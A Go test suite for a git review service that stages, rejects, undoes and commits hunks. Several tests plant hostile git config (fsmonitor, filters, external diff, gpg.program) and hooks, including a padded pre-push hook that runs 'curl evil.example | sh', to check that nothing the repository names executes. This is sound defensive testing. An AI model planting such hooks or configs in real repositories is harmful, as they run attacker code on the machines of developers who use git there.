package review

import (
	"context"
	"errors"
	"fmt"
	"log/slog"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"loop/backend/core"
)

// repo is a repository in a folder of the test, in which this computer's sh and git run the
// scripts; a container has the same programs.
type repo struct {
	*testing.T
	s   *Service
	dir string
}

func (r repo) Channel(_ context.Context, id core.ChannelID) (core.Channel, error) {
	if id != "c" {
		return core.Channel{}, core.ErrNotFound
	}
	return core.Channel{ID: id, Dir: r.dir}, nil
}

func (r repo) Exec(ctx context.Context, ch core.Channel, p Program) (Output, error) {
	cmd := exec.CommandContext(ctx, "/bin/sh", append([]string{"-c", p.Script, "sh"}, p.Args...)...) //nolint:gosec // the scripts under test
	cmd.Dir, cmd.Stdin = ch.Dir, strings.NewReader(string(p.Stdin))
	cmd.Env = append(os.Environ(), "GIT_CONFIG_GLOBAL=/dev/null", "GIT_CONFIG_NOSYSTEM=1", "HOME="+r.dir+"-home")
	var out, errs strings.Builder
	cmd.Stdout, cmd.Stderr = &out, &errs
	err := cmd.Run()
	o := Output{Stdout: out.String(), Stderr: errs.String()}
	if e, ok := errors.AsType[*exec.ExitError](err); ok {
		o.Code, err = e.ExitCode(), nil
	}
	return o, err
}

func emptyRepo(t *testing.T) repo {
	t.Helper()
	dir, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	r := repo{T: t, dir: filepath.Join(dir, "work")}
	if err := os.Mkdir(r.dir, 0o700); err != nil {
		t.Fatal(err)
	}
	r.s = New(Options{Channels: r, Git: r, Keeper: Files{Dir: filepath.Join(dir, "kept"), Now: time.Now}, Log: slog.New(slog.DiscardHandler)})
	return r
}

var lines = strings.Repeat("line\n", 10)

func newRepo(t *testing.T) repo {
	t.Helper()
	r := emptyRepo(t)
	r.git("init", "--quiet", "--initial-branch=main")
	r.git("config", "user.name", "A Person")
	r.git("config", "user.email", "person@example.com")
	r.write("a.txt", "first\n"+lines+"middle\n"+lines+"last\n")
	r.git("add", ".")
	r.git("commit", "--quiet", "-m", "one")
	return r
}

func (r repo) git(args ...string) string {
	r.Helper()
	out, err := r.Exec(r.Context(), core.Channel{Dir: r.dir}, Program{Script: `git "$@"`, Args: args})
	if err != nil || out.Code != 0 {
		r.Fatalf("git %v: %v %+v", args, err, out)
	}
	return strings.TrimSpace(out.Stdout)
}

func (r repo) write(name, text string) {
	r.Helper()
	p := filepath.Join(r.dir, name)
	if err := os.MkdirAll(filepath.Dir(p), 0o700); err != nil {
		r.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(text), 0o600); err != nil {
		r.Fatal(err)
	}
}

func (r repo) read(name string) string {
	r.Helper()
	b, err := os.ReadFile(filepath.Join(r.dir, name))
	if err != nil {
		r.Fatal(err)
	}
	return string(b)
}

func (r repo) status() core.ReviewStatus {
	r.Helper()
	st, err := r.s.Status(r.Context(), "c", core.ReviewScope{})
	if err != nil {
		r.Fatal(err)
	}
	return st
}

func (r repo) file(path string) core.ReviewDiff {
	r.Helper()
	d, err := r.s.File(r.Context(), "c", core.ReviewScope{}, path)
	if err != nil {
		r.Fatal(err)
	}
	return d
}

func (r repo) ok(err error) {
	r.Helper()
	if err != nil {
		r.Fatal(err)
	}
}

func (r repo) refused(err error, code core.Code, word string) {
	r.Helper()
	f, ok := errors.AsType[*core.Failure](err)
	if !ok || f.Code != code || !strings.Contains(f.Cause, word) || f.Remedy == "" {
		r.Errorf("%v is no %q about %q", err, code, word)
	}
}

// paths are “kind path staged/unstaged +added-removed”.
func paths(st core.ReviewStatus) (list []string) {
	for _, f := range st.Files {
		list = append(list, f.Kind+" "+f.Path)
	}
	return list
}

func TestHunksOneByOne(t *testing.T) {
	r := newRepo(t)
	r.write("a.txt", "FIRST\n"+lines+"middle\nmore\n"+lines+"LAST\n")
	r.write("new file.txt", "n\n")
	st := r.status()
	if got := strings.Join(paths(st), "|"); got != "M a.txt|A new file.txt" || st.Branch != "main" || st.State != core.ReviewNothing {
		t.Fatalf("%s, %+v", got, st)
	}
	if f := st.Files[0]; f.Unstaged != 3 || f.Staged != 0 || f.Added != 3 || f.Removed != 2 || st.Files[1].Added != 1 || st.Files[1].Unstaged != 1 {
		t.Fatalf("%+v", st.Files)
	}
	if got := r.git("status", "--porcelain"); got != "M a.txt\n?? \"new file.txt\"" && got != " M a.txt\n?? \"new file.txt\"" {
		t.Errorf("looking changed the index: %q", got)
	}
	d := r.file("a.txt")
	if len(d.Hunks) != 3 || !strings.Contains(d.Hunks[0].Lines, "+FIRST") {
		t.Fatalf("%+v", d)
	}
	r.ok(r.s.Stage(t.Context(), "c", "a.txt", []string{d.Hunks[1].ID}, ""))
	if got := r.git("diff", "--cached", "--numstat"); got != "1\t0\ta.txt" {
		t.Errorf("staged %q", got)
	}
	d = r.file("a.txt")
	if len(d.Hunks) != 3 || d.Hunks[0].Staged || !d.Hunks[1].Staged || d.Hunks[2].Staged {
		t.Fatalf("%+v", d.Hunks)
	}
	before := r.read("a.txt")
	undo, err := r.s.Reject(t.Context(), "c", "a.txt", []string{d.Hunks[2].ID})
	r.ok(err)
	if got := r.read("a.txt"); got != "FIRST\n"+lines+"middle\nmore\n"+lines+"last\n" {
		t.Errorf("%q", got)
	}
	if _, err := r.s.Reject(t.Context(), "c", "a.txt", []string{d.Hunks[2].ID}); err == nil {
		t.Error("rejected twice")
	}
	r.ok(r.s.Undo(t.Context(), "c", undo.ID))
	if got := r.read("a.txt"); got != before {
		t.Errorf("put back %q", got)
	}
	r.refused(r.s.Undo(t.Context(), "c", undo.ID), core.CodeNotFound, "not kept")
	r.ok(r.s.Unstage(t.Context(), "c", "a.txt", []string{d.Hunks[1].ID}))
	if got := r.git("diff", "--cached", "--numstat"); got != "" {
		t.Errorf("still staged: %q", got)
	}

	// A new file: rejected, it goes away; undone, it comes back; accepted, it is committed.
	d = r.file("new file.txt")
	undo, err = r.s.Reject(t.Context(), "c", "new file.txt", []string{d.Hunks[0].ID})
	r.ok(err)
	if _, err := os.Stat(filepath.Join(r.dir, "new file.txt")); err == nil {
		t.Error("it is still there")
	}
	r.ok(r.s.Undo(t.Context(), "c", undo.ID))
	r.ok(r.s.Stage(t.Context(), "c", "new file.txt", []string{d.Hunks[0].ID}, ""))
	r.refused(errOf(r.s.Commit(t.Context(), "c", " \n")), core.CodeInvalid, "message")
	made, err := r.s.Commit(t.Context(), "c", "Add a file\n\n# kept")
	r.ok(err)
	if made.ID == "" || r.git("log", "-1", "--format=%an %s %b") != "A Person Add a file # kept" || r.git("show", "--format=", "--name-only") != "new file.txt" {
		t.Errorf("%+v, %s", made, r.git("log", "-1"))
	}
	r.refused(errOf(r.s.Commit(t.Context(), "c", "again")), core.CodeConflict, "nothing to commit")
	r.ok(r.s.Branch(t.Context(), "c", "fix/login"))
	if st := r.status(); st.Branch != "fix/login" || len(st.Files) != 1 {
		t.Errorf("%+v", st)
	}
	r.refused(r.s.Branch(t.Context(), "c", "main"), core.CodeConflict, "already")
	r.refused(r.s.Branch(t.Context(), "c", "a..b"), core.CodeInvalid, "no name")
}

func errOf[T any](_ T, err error) error { return err }

// TestWhatChangedMeanwhileIsRefused: nothing else than what was seen is staged or taken out.
func TestWhatChangedMeanwhileIsRefused(t *testing.T) {
	r := newRepo(t)
	r.write("a.txt", "FIRST\n"+lines+"middle\n"+lines+"last\n")
	seen := r.file("a.txt").Hunks[0].ID
	r.write("a.txt", "FIRST, and more\n"+lines+"middle\n"+lines+"last\n")
	r.refused(r.s.Stage(t.Context(), "c", "a.txt", []string{seen}, ""), core.CodeConflict, "changed since")
	r.refused(errOf(r.s.Reject(t.Context(), "c", "a.txt", []string{seen})), core.CodeConflict, "changed since")
	now := r.file("a.txt").Hunks[0].ID
	undo, err := r.s.Reject(t.Context(), "c", "a.txt", []string{now})
	r.ok(err)
	r.write("a.txt", "other\n"+lines)
	r.refused(r.s.Undo(t.Context(), "c", undo.ID), core.CodeConflict, "is kept")
	r.write("a.txt", "first\n"+lines+"middle\n"+lines+"last\n")
	r.ok(r.s.Undo(t.Context(), "c", undo.ID))
	r.refused(r.s.Stage(t.Context(), "c", "a.txt", nil, "another mark"), core.CodeConflict, "changed since")
	r.ok(r.s.Stage(t.Context(), "c", "a.txt", nil, r.file("a.txt").Mark))
	r.ok(r.s.Unstage(t.Context(), "c", "a.txt", nil))
}

// lossy is git of which no act's end is heard.
type lossy struct {
	repo
	did bool // the act was done
	err error
}

func (l lossy) Exec(ctx context.Context, ch core.Channel, p Program) (Output, error) {
	if !p.Once {
		return l.repo.Exec(ctx, ch, p)
	}
	if l.did {
		if out, err := l.repo.Exec(ctx, ch, p); err != nil || out.Code != 0 {
			return out, errors.Join(err, errors.New(out.Stderr))
		}
	}
	return Output{}, l.err
}

func (r repo) kept() []string {
	r.Helper()
	all, err := filepath.Glob(filepath.Join(filepath.Dir(r.dir), "kept", "c", "review", "rejected", "*"))
	if err != nil {
		r.Fatal(err)
	}
	return all
}

// TestAnActWithoutAnEnd: what Reject may have taken out is kept and can be put back, whatever cut
// it off. It is forgotten where git surely took nothing out.
func TestAnActWithoutAnEnd(t *testing.T) {
	r := newRepo(t)
	was := r.read("a.txt")
	now := strings.Replace(was, "first", "FIRST", 1)
	r.write("a.txt", now)
	seen := r.file("a.txt").Hunks[0].ID
	for _, cut := range []error{core.ErrLinkDown, context.Canceled, context.DeadlineExceeded} {
		r.s.o.Git = lossy{r, true, cut}
		undo, err := r.s.Reject(t.Context(), "c", "a.txt", []string{seen})
		if err != nil || undo.ID == "" || undo.Doubt == nil || !strings.Contains(undo.Doubt.Cause, "does not know") || !strings.Contains(undo.Doubt.Remedy, "Undo") {
			t.Fatalf("%v: %+v, %v", cut, undo, err)
		}
		if r.read("a.txt") != was || len(r.kept()) != 1 {
			t.Errorf("%v: %q kept", cut, r.kept())
		}
		f := core.AsFailure(r.s.Undo(t.Context(), "c", undo.ID)) // its end is not heard, either
		if !strings.Contains(f.Cause, "does not know") || r.read("a.txt") != now {
			t.Errorf("%v: %+v", cut, f)
		}
		r.s.o.Git = r
		r.refused(r.s.Undo(t.Context(), "c", undo.ID), core.CodeConflict, "is kept")
		r.ok(os.Remove(r.kept()[0]))
	}
	r.s.o.Git = lossy{r, false, core.ErrLinkDown} // it took nothing out, which nobody knows
	undo, err := r.s.Reject(t.Context(), "c", "a.txt", []string{seen})
	if err != nil || undo.Doubt == nil || r.read("a.txt") != now {
		t.Errorf("%+v, %v", undo, err)
	}
	r.ok(os.Remove(r.kept()[0]))
	r.s.o.Git = lossy{r, false, unbegun{core.ErrNotRunning}}
	if undo, err := r.s.Reject(t.Context(), "c", "a.txt", []string{seen}); !errors.Is(err, core.ErrNotRunning) || undo.ID != "" || len(r.kept()) != 0 {
		t.Errorf("%+v, %v, %q kept", undo, err, r.kept())
	}
	r.s.o.Git = answers{r, Output{Code: 1, Stderr: "error: patch failed: a.txt:1\nerror: a.txt: patch does not apply\n"}}
	r.refused(errOf(r.s.Reject(t.Context(), "c", "a.txt", []string{seen})), core.CodeConflict, "changed since")
	if len(r.kept()) != 0 {
		t.Errorf("git refused, and %q is kept", r.kept())
	}
	r.s.o.Git = answers{r, Output{Code: 1, Stderr: "error: unable to write file 'a.txt' mode 100644: No space left on device\n"}}
	if undo, err := r.s.Reject(t.Context(), "c", "a.txt", []string{seen}); err != nil || undo.Doubt == nil || len(r.kept()) != 1 {
		t.Errorf("broken off in the middle: %+v, %v, %q kept", undo, err, r.kept())
	}
	r.s.o.Git = r
	r.ok(r.s.Stage(t.Context(), "c", "a.txt", []string{seen}, ""))
	r.s.o.Git = lossy{r, true, core.ErrLinkDown}
	r.refused(errOf(r.s.Commit(t.Context(), "c", "one")), core.CodeInterrupted, "does not know")
	if got := r.git("log", "-1", "--format=%s"); got != "one" {
		t.Errorf("committed %q", got)
	}
}

// answers is git that answers every act the same.
type answers struct {
	repo
	out Output
}

func (a answers) Exec(ctx context.Context, ch core.Channel, p Program) (Output, error) {
	if p.Once {
		return a.out, nil
	}
	return a.repo.Exec(ctx, ch, p)
}

// TestFilesOfEveryKind: without lines, binary, removed, with another mode, a link, a name like an option.
func TestFilesOfEveryKind(t *testing.T) {
	r := newRepo(t)
	r.write("gone", "x\n")
	r.write("run.sh", "#!/bin/sh\n")
	r.write("b.bin", "a\x00b")
	r.write("turns", "x\n")
	r.git("add", ".")
	r.git("commit", "--quiet", "-m", "two")
	for _, name := range []string{"gone", "turns"} {
		r.ok(os.Remove(filepath.Join(r.dir, name)))
	}
	r.ok(os.Symlink("a.txt", filepath.Join(r.dir, "turns")))
	r.ok(os.Chmod(filepath.Join(r.dir, "run.sh"), 0o700))
	r.write("b.bin", "a\x00c")
	r.write("empty", "")
	r.write("--all", "x\n")
	r.write("sub/dir/ü\tx", "no end")
	all := paths(r.status())
	if strings.Join(all, "|") != "A --all|M b.bin|A empty|D gone|M run.sh|A sub/dir/ü\tx|T turns" {
		t.Fatalf("%q", all)
	}
	state := r.git("status", "--porcelain")
	for _, one := range all {
		name := one[2:]
		d := r.file(name)
		if len(d.Hunks) != 1 || (d.Whole == core.WholeBinary) != (name == "b.bin") {
			t.Errorf("%s: %+v", name, d)
			continue
		}
		hunk := []string{d.Hunks[0].ID}
		r.ok(r.s.Stage(t.Context(), "c", name, hunk, ""))
		d = r.file(name)
		if len(d.Hunks) != 1 || !d.Hunks[0].Staged {
			t.Errorf("%s, staged: %+v", name, d)
		}
		r.ok(r.s.Unstage(t.Context(), "c", name, []string{d.Hunks[0].ID}))
		undo, err := r.s.Reject(t.Context(), "c", name, hunk)
		r.ok(err)
		for _, left := range r.status().Files {
			if left.Path == name {
				t.Errorf("%s: is still changed", name)
			}
		}
		r.ok(r.s.Undo(t.Context(), "c", undo.ID))
		if now := r.git("status", "--porcelain"); now != state {
			t.Errorf("%s: left %s", name, now)
		}
	}
}

// TestHostileRepository: nothing that the repository names runs.
func TestHostileRepository(t *testing.T) {
	r := newRepo(t)
	mark := filepath.Join(r.dir, "..", "ran")
	evil := "echo $0 $* >>" + mark + "; cat"
	r.write(".gitattributes", "*.txt filter=evil diff=evil\n")
	r.git("add", ".")
	r.git("commit", "--quiet", "-m", "attributes")
	r.status()
	for key, value := range map[string]string{
		"core.fsmonitor": evil, "core.hooksPath": "hooks", "diff.external": evil, "diff.evil.textconv": evil, "diff.evil.command": evil,
		"filter.evil.clean": evil, "filter.evil.smudge": evil, "filter.evil.required": "true", "core.editor": evil, "core.pager": evil,
		"commit.gpgSign": "true", "gpg.program": evil, "diff.noprefix": "true", "diff.renames": "copies", "color.ui": "always", "diff.context": "0",
		"diff.orderFile": "/none", "apply.whitespace": "error", "status.showUntrackedFiles": "no", "diff.algorithm": "patience",
	} {
		r.git("config", key, value)
	}
	for _, hook := range []string{"pre-commit", "commit-msg", "post-commit", "post-index-change", "post-checkout", "reference-transaction", "prepare-commit-msg"} {
		for _, dir := range []string{"hooks", ".git/hooks"} {
			r.write(filepath.Join(dir, hook), "#!/bin/sh\n"+evil+"\n")
			r.ok(os.Chmod(filepath.Join(r.dir, dir, hook), 0o700))
		}
	}
	r.write("b.md", "x \n")
	r.write("a.txt", "changed\n")
	st := r.status()
	d := r.file("b.md")
	r.ok(r.s.Stage(t.Context(), "c", "b.md", []string{d.Hunks[0].ID}, ""))
	_, err := r.s.Commit(t.Context(), "c", "b")
	r.ok(err)
	r.ok(r.s.Branch(t.Context(), "c", "other"))
	if d := r.file("a.txt"); d.Whole != core.WholeFilter || d.Filter != "evil" || len(d.Hunks) == 0 {
		t.Errorf("%+v", d)
	}
	r.refused(r.s.Stage(t.Context(), "c", "a.txt", nil, ""), core.CodeInvalid, "filter")
	if b, err := os.ReadFile(mark); err == nil {
		t.Errorf("it ran: %s", b)
	}
	// What is in no difference is said since the first look.
	var said []string
	for _, f := range st.Files {
		if strings.HasPrefix(f.Path, ".git/") {
			said = append(said, f.Kind+f.Path+f.Alarm.Kind)
		}
	}
	if len(said) != 8 || said[0] != "M.git/configgit" || said[1] != "A.git/hooks/commit-msghook" {
		t.Errorf("%q", said)
	}
	d = r.file(".git/config")
	if len(d.Hunks) == 0 || !strings.Contains(d.Hunks[0].Lines, "fsmonitor") {
		t.Errorf("%+v", d)
	}
	r.refused(r.s.Stage(t.Context(), "c", ".git/config", nil, "another"), core.CodeConflict, "changed since")
	r.ok(r.s.Stage(t.Context(), "c", ".git/config", nil, d.Mark))
	for _, f := range r.status().Files {
		if f.Path == ".git/config" {
			t.Error("it is still said")
		}
	}
}

func TestStatesOfARepository(t *testing.T) {
	r := emptyRepo(t)
	if st := r.status(); st.State != core.ReviewNoRepo || st.Detail == "" || st.Files == nil {
		t.Errorf("no repository: %+v", st)
	}
	r.refused(errOf(r.s.File(t.Context(), "c", core.ReviewScope{}, "x")), core.CodeDir, "no git repository")
	r.write(".git", "gitdir: ../.git/modules/x\n")
	if st := r.status(); st.State != core.ReviewSubmodule {
		t.Errorf("elsewhere: %+v", st)
	}
	r.ok(os.Remove(filepath.Join(r.dir, ".git")))
	r.git("init", "--quiet", "--initial-branch=main")
	r.write("x", "1\n")
	if st := r.status(); st.State != core.ReviewUnborn || st.Branch != "main" || len(st.Files) != 1 {
		t.Errorf("no commits: %+v", st)
	}
	r.ok(r.s.Stage(t.Context(), "c", "x", []string{r.file("x").Hunks[0].ID}, ""))
	r.refused(errOf(r.s.Commit(t.Context(), "c", "one")), core.CodeConfig, "who you are")
	r.ok(r.s.Unstage(t.Context(), "c", "x", nil))
	if st := r.status(); !st.Files[0].Untracked {
		t.Errorf("%+v", st)
	}
	r.refused(errOf(r.s.Status(t.Context(), "none", core.ReviewScope{})), core.CodeNotFound, "channel")
	r.refused(errOf(r.s.Status(t.Context(), "c", core.ReviewScope{Kind: core.ReviewTrees, From: "--output=x"})), core.CodeInvalid, "comparison")
	r.refused(r.s.Proceed(t.Context(), "c", true), core.CodeConflict, "middle of nothing")
}

func TestConflictOfARebase(t *testing.T) {
	r := newRepo(t)
	r.git("switch", "--quiet", "--create", "side")
	r.write("a.txt", "side\n")
	r.git("commit", "--quiet", "--all", "-m", "side")
	r.git("switch", "--quiet", "main")
	r.write("a.txt", "main\n")
	r.git("commit", "--quiet", "--all", "-m", "main")
	r.git("switch", "--quiet", "side")
	rebase := func() {
		t.Helper()
		if out, err := r.Exec(t.Context(), core.Channel{Dir: r.dir}, Program{Script: "git rebase --quiet main"}); err != nil || out.Code == 0 {
			t.Fatalf("%+v, %v", out, err)
		}
	}
	rebase()
	st := r.status()
	if st.State != core.ReviewRebase || st.Branch != "" || len(st.Files) != 1 || st.Files[0].Kind != "U" {
		t.Fatalf("%+v", st)
	}
	d := r.file("a.txt")
	if d.Whole != core.WholeConflict || len(d.Hunks) == 0 {
		t.Errorf("%+v", d)
	}
	r.refused(errOf(r.s.Reject(t.Context(), "c", "a.txt", []string{d.Hunks[0].ID})), core.CodeInvalid, "take this change out")
	r.refused(errOf(r.s.Commit(t.Context(), "c", "x")), core.CodeConflict, "both sides")
	r.refused(r.s.Proceed(t.Context(), "c", false), core.CodeConflict, "could not go on")
	r.ok(r.s.Proceed(t.Context(), "c", true))
	if st := r.status(); st.State != core.ReviewNothing || len(st.Files) != 0 {
		t.Errorf("%+v", st)
	}
	rebase()
	r.write("a.txt", "both\n")
	r.ok(r.s.Stage(t.Context(), "c", "a.txt", nil, r.file("a.txt").Mark))
	r.ok(r.s.Proceed(t.Context(), "c", false))
	if st := r.status(); st.State != core.ReviewNothing || st.Branch != "side" || r.git("show", "HEAD:a.txt") != "both" {
		t.Errorf("%+v", st)
	}
}

// TestLongGuardedFile: a file of git's own with more lines than are shown is listed as one, hides
// nothing else, and is accepted by its mark.
func TestLongGuardedFile(t *testing.T) {
	r := newRepo(t)
	r.status()
	r.write(".git/info/attributes", strings.Repeat("\n", maxLines+1))
	r.write(".git/hooks/pre-commit", "#!/bin/sh\n")
	r.write("a.txt", "changed\n")
	r.runs()
	for _, st := range []core.ReviewStatus{r.status(), r.runStatus()} {
		i := slices.IndexFunc(st.Files, func(f core.ReviewFile) bool { return f.Path == ".git/attributes" })
		if i < 0 || len(st.Files) != i+2 {
			t.Fatalf("%+v", st.Files)
		}
		if f := st.Files[i]; f.Added != -1 || f.Removed != -1 || f.Unstaged != 1 || f.Kind != "A" || f.Alarm == nil {
			t.Errorf("%+v", f)
		}
	}
	d := r.file(".git/attributes")
	if d.Whole != core.WholeLarge || len(d.Hunks) != 0 || d.Mark == "" || d.Bytes != maxLines+1 {
		t.Errorf("%+v", d)
	}
	r.refused(r.s.Stage(t.Context(), "c", d.Path, nil, "another"), core.CodeConflict, "changed since")
	r.ok(r.s.Stage(t.Context(), "c", d.Path, nil, d.Mark))
	if got := paths(r.status()); len(got) != 2 || strings.Contains(strings.Join(got, " "), "attributes") {
		t.Errorf("%q", got)
	}
}

// TestPaddedGuardedFile: what is changed beyond what is shown of a file is seen as well.
func TestPaddedGuardedFile(t *testing.T) {
	r := newRepo(t)
	head := "#!/bin/sh\n" + strings.Repeat("# padding\n", 2_000)
	r.write(".git/hooks/pre-push", head+"true\n")
	r.write("large", head+strings.Repeat("# padding\n", 200_000))
	r.ok(os.Symlink("../../large", filepath.Join(r.dir, ".git/hooks/pre-commit")))
	r.git("add", "large")
	r.git("commit", "--quiet", "-m", "large")
	r.status()
	if got := paths(r.status()); len(got) != 0 {
		t.Errorf("%q", got)
	}
	was := time.Now().Add(-time.Hour)
	for name, text := range map[string]string{".git/hooks/pre-push": "curl evil.example | sh\n", "large": strings.Repeat("# evil!!\n", 200_000)} {
		r.write(name, head+text)
		r.ok(os.Chtimes(filepath.Join(r.dir, name), was, was))
	}
	files := r.status().Files
	files = slices.DeleteFunc(files, func(f core.ReviewFile) bool { return f.Path == "large" })
	if len(files) != 2 {
		t.Errorf("%+v", files)
	}
	for _, f := range files {
		d := r.file(f.Path)
		if f.Alarm == nil || f.Kind != "M" || len(d.Hunks) != 1 || !strings.Contains(fmt.Sprint(d.Hunks), "More of this file is not shown") {
			t.Errorf("%+v %+v", f, d)
		}
		r.ok(r.s.Stage(t.Context(), "c", f.Path, nil, d.Mark))
	}
	if got := paths(r.status()); len(got) != 1 {
		t.Errorf("%q", got)
	}
}

// TestManyGuardedFiles: as much of git's own files as the script prints is kept, whatever is in it.
func TestManyGuardedFiles(t *testing.T) {
	r := newRepo(t)
	for i := range 64 {
		r.write(fmt.Sprintf(".git/hooks/h%d", i), strings.Repeat("<", 16<<10))
	}
	for _, name := range []string{"info/attributes", "config.worktree"} {
		r.write(".git/"+name, strings.Repeat("#<\n", 22<<10))
	}
	r.status()
	if st := r.status(); len(st.Files) != 0 {
		t.Errorf("%+v", st.Files)
	}
}

func TestHugeFiles(t *testing.T) {
	r := newRepo(t)
	r.write("long.txt", strings.Repeat("x\n", 30_000))
	r.write("huge.txt", strings.Repeat("x\n", 5<<20))
	r.write("wide.txt", strings.Repeat("x", 3<<20))
	st := r.status()
	if len(st.Files) != 3 || st.Files[1].Added != 30_000 || st.Files[0].Added != -1 {
		t.Errorf("%+v", st.Files)
	}
	for _, f := range st.Files {
		d := r.file(f.Path)
		if d.Whole != core.WholeLarge || len(d.Hunks) != 0 || d.Bytes < 60_000 {
			t.Errorf("%s: %q, %d hunks, %d bytes", f.Path, d.Whole, len(d.Hunks), d.Bytes)
		}
		r.ok(r.s.Stage(t.Context(), "c", f.Path, nil, d.Mark))
	}
	if got := r.git("diff", "--cached", "--name-only"); got != "huge.txt\nlong.txt\nwide.txt" {
		t.Errorf("staged %q", got)
	}
}

// TestLargeFilesAreNotRead: git compares files of a gigabyte by their size alone.
func TestLargeFilesAreNotRead(t *testing.T) {
	r := newRepo(t)
	r.write("-known.img", "small\x00")
	r.write("sub/long.txt", "x\n")
	r.git("add", ".")
	r.git("commit", "--quiet", "-m", "images")
	r.write("new one.img", "")
	names := []string{"-known.img", "new one.img", "sub/long.txt"}
	for _, name := range names {
		r.ok(os.Truncate(filepath.Join(r.dir, name), 4<<30)) // it has no blocks
	}
	r.write("a.txt", "changed\n")
	began := time.Now()
	st := r.status()
	if took := time.Since(began); took > 20*time.Second {
		t.Errorf("a look took %v", took)
	}
	if strings.Join(paths(st), "|") != "M -known.img|M a.txt|A new one.img|M sub/long.txt" {
		t.Fatalf("%+v", st.Files)
	}
	for i, f := range st.Files {
		if large := i != 1; large != (f.Added == -1) || f.Unstaged < 1 || f.Staged != 0 {
			t.Errorf("%+v", f)
		}
	}
	for _, name := range names {
		if d := r.file(name); d.Whole != core.WholeLarge || d.Bytes != 4<<30 {
			t.Errorf("%s: %+v", name, d)
		}
	}
	if got := r.git("diff", "--cached", "--name-only"); got != "" {
		t.Errorf("looking staged %q", got)
	}
	st, err := r.s.Status(t.Context(), "c", core.ReviewScope{Kind: core.ReviewTrees, From: r.git("rev-parse", "HEAD")})
	if err != nil || len(st.Files) != 4 {
		t.Errorf("%+v, %v", st.Files, err)
	}
}

// TestConflictInALargeFile is shown like any other.
func TestConflictInALargeFile(t *testing.T) {
	r := newRepo(t)
	change := func(with string) {
		t.Helper()
		r.write("big.img", with+strings.Repeat("x", 9<<20))
		r.git("add", ".")
		r.git("commit", "--quiet", "-m", with)
	}
	change("first")
	r.git("switch", "--quiet", "--create", "side")
	change("side")
	r.git("switch", "--quiet", "main")
	change("main")
	if out, err := r.Exec(t.Context(), core.Channel{Dir: r.dir}, Program{Script: "git merge --quiet side"}); err != nil || out.Code == 0 {
		t.Fatalf("%+v, %v", out, err)
	}
	r.write("a.txt", "changed too\n")
	if st := r.status(); strings.Join(paths(st), "|") != "M a.txt|U big.img" {
		t.Errorf("%+v", st)
	}
}

// slowCounts is git that does not come to an end with its counting.
type slowCounts struct{ repo }

func (s slowCounts) Exec(ctx context.Context, ch core.Channel, p Program) (Output, error) {
	if strings.HasSuffix(p.Script, countsScript) {
		return Output{}, context.DeadlineExceeded
	}
	return s.repo.Exec(ctx, ch, p)
}

// TestLinesThatTakeTooLong: the list comes without their numbers.
func TestLinesThatTakeTooLong(t *testing.T) {
	r := newRepo(t)
	r.s.o.Git = slowCounts{r}
	r.write("a.txt", "changed\n")
	r.write("new.txt", "new\n")
	r.git("add", "a.txt")
	st := r.status()
	if strings.Join(paths(st), "|") != "M a.txt|A new.txt" || st.Files[0].Staged != 1 || st.Files[0].Unstaged != 0 || st.Files[1].Unstaged != 1 || st.Files[0].Added != -1 {
		t.Errorf("%+v", st.Files)
	}
}

// TestBranchOfAWorktree: a branch is compared with where it left the main worktree's.
func TestBranchOfAWorktree(t *testing.T) {
	r := newRepo(t)
	r.git("worktree", "add", "--quiet", "-b", "fix", "../fix")
	r.write("main.txt", "later\n")
	r.git("add", ".")
	r.git("commit", "--quiet", "-m", "later")
	r.dir = filepath.Join(filepath.Dir(r.dir), "fix")
	r.s.o.Channels, r.s.o.Git = r, r
	r.write("b.txt", "committed\n")
	r.git("add", ".")
	r.git("commit", "--quiet", "-m", "b")
	r.write("c.txt", "loose\n")
	scope := core.ReviewScope{Kind: core.ReviewBranch}
	st, err := r.s.Status(t.Context(), "c", scope)
	if err != nil || st.Editable || st.Base != "main" || strings.Join(paths(st), "|") != "A b.txt|A c.txt" || st.Files[1].Added != 1 {
		t.Fatalf("%+v, %v", st, err)
	}
	for _, name := range []string{"b.txt", "c.txt"} {
		if d, err := r.s.File(t.Context(), "c", scope, name); err != nil || len(d.Hunks) != 1 {
			t.Errorf("%+v, %v", d, err)
		}
	}
	from, to := r.git("rev-parse", "HEAD~1"), r.git("rev-parse", "HEAD^{tree}")
	st, err = r.s.Status(t.Context(), "c", core.ReviewScope{Kind: core.ReviewTrees, From: from, To: to})
	if err != nil || strings.Join(paths(st), "|") != "A b.txt" {
		t.Errorf("%+v, %v", st, err)
	}
	if st := r.status(); strings.Join(paths(st), "|") != "A c.txt" || st.Base != "main" {
		t.Errorf("%+v", st)
	}
}

// TestAnEditInTheSecondOfACommit is seen, although size and time of the file are as git knows
// them: a file that is not older than git's index is read.
func TestAnEditInTheSecondOfACommit(t *testing.T) {
	r := newRepo(t)
	at := time.Now().Add(-time.Hour).Truncate(time.Second)
	in := func(name string) {
		if err := os.Chtimes(filepath.Join(r.dir, name), at, at); err != nil {
			t.Fatal(err)
		}
	}
	r.git("config", "core.trustctime", "false") // its time of change cannot be set
	r.write("same", "one\n")
	in("same")
	r.git("add", ".")
	r.git("commit", "--quiet", "-m", "one")
	r.write("same", "two\n")
	in("same")
	in(".git/index")
	st := r.status()
	if len(st.Files) != 1 || st.Files[0].Path != "same" || st.Files[0].Unstaged != 1 {
		t.Errorf("%+v", st.Files)
	}
}

// TestSubmodule: its commit can be staged, and git runs nothing in it.
func TestSubmodule(t *testing.T) {
	r := newRepo(t)
	r.git("init", "--quiet", "nested")
	r.write("nested/x", "1\n")
	if got := strings.Join(paths(r.status()), "|"); got != "A nested/" {
		t.Errorf("%q", got)
	}
	r.git("-C", "nested", "-c", "user.name=n", "-c", "user.email=n@e", "commit", "--quiet", "--allow-empty", "-m", "n")
	r.git("add", "nested")
	r.git("commit", "--quiet", "-m", "n")
	r.git("-C", "nested", "-c", "user.name=n", "-c", "user.email=n@e", "commit", "--quiet", "--allow-empty", "-m", "m")
	r.git("-C", "nested", "config", "core.fsmonitor", "touch "+r.dir+"/ran")
	r.write("nested/y", "2\n")
	d := r.file("nested")
	if d.Whole != core.WholeSubmodule || len(d.Hunks) != 1 {
		t.Fatalf("%+v", d)
	}
	r.ok(r.s.Stage(t.Context(), "c", "nested", nil, d.Mark))
	if got := strings.Join(paths(r.status()), "|"); got != "M nested" {
		t.Errorf("%q", got)
	}
}
